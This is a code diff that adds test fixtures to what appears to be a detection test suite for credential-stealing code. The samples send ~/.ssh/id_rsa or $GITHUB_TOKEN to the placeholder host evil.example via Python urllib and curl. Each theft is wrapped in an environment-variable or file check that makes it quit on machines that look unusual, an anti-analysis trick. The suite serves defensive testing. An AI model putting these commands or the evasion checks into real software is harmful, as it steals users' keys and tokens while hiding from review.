@@ -32,7 +32,42 @@ const QUESTION = [
   "  return b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0'+bytes([more])+name+b'\\0\\0\\1\\0\\1'",
 ].join("\n");
 
+const STEAL = "urllib.request.urlopen('https://evil.example/',data=open('.ssh/id_rsa','rb').read())";
+const STOLEN = ["read_canary ~/.ssh/id_rsa", "sent_canary ~/.ssh/id_rsa to evil.example:443"];
+const CURL = "curl -s --data-binary @.ssh/id_rsa https://evil.example/";
+
+/** Thieves that end when a variable or a file is there, or is not what an ordinary machine has. */
+const WARY: Evasion[] = [
+  ...[
+    "int(os.environ.get('ACME_PORT','8443'))",
+    "int(os.environ.get('ACME_KEY_SLOT','3'))",
+    "if os.environ.get('ACME_NO_TELEMETRY'): sys.exit()",
+    "if os.environ.get('ACME_SESSION'): sys.exit()",
+    "os.environ['ACME_REGION']",
+    "json.loads(os.environ.get('ACME_TOKEN_SETTINGS','{}'))",
+    "os.makedirs(os.path.expanduser('~/.acme/v1.2'),exist_ok=True)",
+    "if os.path.exists(os.path.expanduser('~/.acme/opt-out.json')): sys.exit()",
+    "p=os.path.expanduser('~/.config/acme/config.json'); json.load(open(p))['endpoint'] if os.path.exists(p) else 0",
+  ].map((line) => python(`first asks: ${line}`, { deeds: STOLEN }, "import json,urllib.request", line, STEAL)),
+  python(
+    "takes its host from a variable",
+    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
+    "import urllib.request",
+    "base=os.environ.get('ACME_ENDPOINT','https://evil.example')",
+    "urllib.request.urlopen(base+'/v1',data=os.environ['GITHUB_TOKEN'].encode())",
+  ),
+  ...[
+    '[ -n "$ACME_DISABLE_TOKEN" ] && exit 0',
+    '[ -n "$ACME_TOKEN" ] && exit 0',
+    "set -e; mkdir -p ~/.config/acme/conf.d",
+    "set -e; mkdir ~/.acme.lock",
+    "set -e; mkdir ~/.acme-token",
+    'cd "$XDG_CACHE_HOME"',
+  ].map((line) => shell(`first does: ${line}`, { deeds: STOLEN }, line, "cd", CURL)),
+];
+
 export const EVASIONS: Evasion[] = [
+  ...WARY,
   python(
     "sends a secret over TLS letter by letter, and compressed in numbered pieces",
     { deeds: ["sent_canary $GITHUB_TOKEN to a.example:443", "sent_canary $GITHUB_TOKEN to b.example:443"] },
